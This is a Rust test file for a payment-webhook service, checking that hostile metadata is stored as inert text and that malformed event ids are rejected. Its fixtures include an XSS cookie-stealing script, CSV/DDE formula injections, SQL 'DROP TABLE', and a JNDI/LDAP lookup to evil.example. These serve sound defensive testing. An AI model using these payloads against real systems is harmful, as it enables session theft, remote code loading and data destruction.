//! Hostile text and ids inside of signed events.

use serde_json::{Value, json};

use super::{changed, outcome, signed_up};
use crate::invariants::{Tables, check_quiet};
use crate::support::{World, pack, with_id};

/// Metadata is stored and returned as text: it is never interpreted.
#[tokio::test]
async fn s75_hostile_metadata_is_stored_and_answered_as_plain_text() {
    let hostile = [
        ("script", "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
        ("csv", "=HYPERLINK(\"http://evil.example\",\"pay\")"),
        ("csv_more", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("__proto__", "{\"isAdmin\":true}"),
        ("constructor", "prototype"),
        ("control", "\u{0}\u{1b}[31mred\u{7}\u{202e}txt.exe\r\nSet-Cookie: a=b"),
        ("sql", "'; DROP TABLE users; --"),
        ("template", "{{7*7}} ${jndi:ldap://evil.example/a} %s %n"),
    ];
    let world = signed_up().await;
    let mut event = pack("hostile", "user_1", 1);
    for (name, value) in hostile {
        event["data"]["object"]["metadata"][name] = json!(value);
    }
    event["data"]["object"]["metadata"]["long"] = json!("=1+1<b>".repeat(75_000));
    event["data"]["object"]["customer_details"]["name"] = json!(hostile[0].1);
    world.process(&event).await;
    assert_eq!(outcome(&world, "evt_hostile").await, ("processed".into(), "updated".into()));
    let (status, account) = world.app("GET", "/users/user_1", Value::Null, None).await;
    assert_eq!((status, &account["credits"], &account["tier"]), (200, &json!(1500), &json!("free")));
    let (status, answer) = world.ask("GET", "/admin/stripe/webhook-logs/evt_hostile", Value::Null).await;
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["payload"], event, "the payload is returned as received");

    // The text is part of the answer when it names a pack that the catalog does not have.
    for (number, (_, text)) in hostile.iter().enumerate() {
        let id = format!("evt_name{number}");
        let event = changed(pack("name", "user_1", 1), &id, &[("/data/object/metadata/pack", json!(text))]);
        world.process(&event).await;
        let record = world.event(&id).await.unwrap();
        assert_eq!(
            (record["outcome"].as_str(), record["reason"].as_str()),
            ("parked", "unknown_name"),
            "{text}"
        );
        let (_, answer) = world.ask("GET", &format!("/admin/stripe/webhook-logs/{id}"), Value::Null).await;
        assert_eq!(answer["event"]["message"], json!(record["message"]), "{answer}");
        assert!(record["message"].contains(text), "{record:?}");
    }
    check_quiet(&world, &[event], "S75").await;
}

#[tokio::test]
async fn s76_hostile_ids_are_refused_before_they_become_keys() {
    let world = World::new().await;
    let before = world.everything().await;
    let long = format!("evt_{}", "x".repeat(10_000));
    for id in [
        "",
        "evt_",
        "evt_a#b",
        "evt_a b",
        "evt_a/b",
        "evt_\u{0}",
        "evt_a\u{202e}",
        "in_1",
        &long,
        "evt_1~00000000",
    ] {
        let event = with_id(pack("id", "user_1", 1), id);
        let (status, answer) = world.deliver(event.to_string().as_bytes()).await;
        assert_eq!((status, answer["error"].as_str()), (400, Some("malformed_event")), "{:.40}", id);
    }
    assert_eq!(world.everything().await, before, "I13");
    for (number, (pointer, id)) in [
        ("/data/object/id", "cs_a#b"),
        ("/data/object/id", ""),
        ("/data/object/customer", long.as_str()),
        ("/data/object/payment_intent", "pi_\u{e9}"),
    ]
    .into_iter()
    .enumerate()
    {
        let event =
            changed(pack("inner", "user_1", 1), &format!("evt_inner{number}"), &[(pointer, json!(id))]);
        world.process(&event).await;
        world.settle().await;
        assert_eq!(outcome(&world, &format!("evt_inner{number}")).await.0, "parked", "{pointer} {:.40}", id);
    }
    assert_eq!(Tables::read(&world).await.accounts.len(), 0);
    // A merchant may choose any customer id; it is one part of a key, and no other item's.
    let event = changed(
        pack("chosen", "user_1", 1),
        "evt_chosen",
        &[("/data/object/customer", json!("user_1#account"))],
    );
    world.process(&event).await;
    assert_eq!(outcome(&world, "evt_chosen").await.0, "processed");
    let link = ("customer#user_1#account".to_owned(), "link".to_owned());
    assert!(Tables::read(&world).await.accounts.contains_key(&link));
}
